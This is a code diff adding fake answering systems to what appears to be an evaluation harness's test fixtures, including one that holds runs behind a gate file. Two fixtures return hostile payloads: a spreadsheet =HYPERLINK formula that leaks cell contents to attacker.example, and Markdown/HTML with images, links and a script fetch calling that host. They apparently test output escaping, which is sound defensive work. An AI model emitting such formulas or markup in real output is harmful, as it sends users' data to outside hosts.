@@ -46,9 +46,49 @@ async def worse(request: SystemRequest) -> dict[str, Any]:
     return _answer(request, broken=True)
 
 
+async def gated(request: SystemRequest) -> dict[str, Any]:
+    """Logs each call (case id, one line, to $PILOT_TEST_CALL_LOG) and answers only once the
+    file $PILOT_TEST_GATE exists, so a test can hold a run mid-flight without timing."""
+    import asyncio
+    import os
+    from pathlib import Path
+
+    with open(os.environ["PILOT_TEST_CALL_LOG"], "a") as log:
+        log.write(request.case_id + "\n")
+    gate = Path(os.environ["PILOT_TEST_GATE"])
+    while not gate.exists():
+        await asyncio.sleep(0.02)
+    return _answer(request, broken=False)
+
+
 def eighth_right(request: SystemRequest) -> dict[str, Any]:
     """Right on one case in eight (the carried-over questions #1, #9, ...): accuracy 0.125."""
     number = int(request.question.rsplit("#", 1)[1])
     if number % 8 == 1:
         return _answer(request, broken=False)
     return {"answer": "Employees receive 20 days.", "abstained": False}
+
+
+HOSTILE_ANSWER = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
+
+
+def spreadsheet_attack(request: SystemRequest) -> dict[str, Any]:
+    """Answers with cells a spreadsheet would run as formulas (issue 9, finding 11)."""
+    number = int(request.case_id.rsplit("-", 1)[-1])
+    answers = [HOSTILE_ANSWER, "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "plain"]
+    return {"answer": answers[number % len(answers)], "abstained": False}
+
+
+HOSTILE_MARKUP = (
+    "![x](http://attacker.example/img.png) [click](http://attacker.example/link) "
+    '<img src="http://attacker.example/tag.png"> <script>fetch("http://attacker.example/s")'
+    "</script> $\\sum_{i}^{n} x$ www.attacker.example"
+)
+
+
+def hostile(request: SystemRequest) -> dict[str, Any]:
+    """Errors and answers written to render as Markdown or HTML (issue 9, finding 7)."""
+    number = int(request.case_id.rsplit("-", 1)[-1])
+    if number % 2:
+        raise RuntimeError(f"upstream said: {HOSTILE_MARKUP}")
+    return {"answer": f"Answer: {HOSTILE_MARKUP}", "abstained": False}
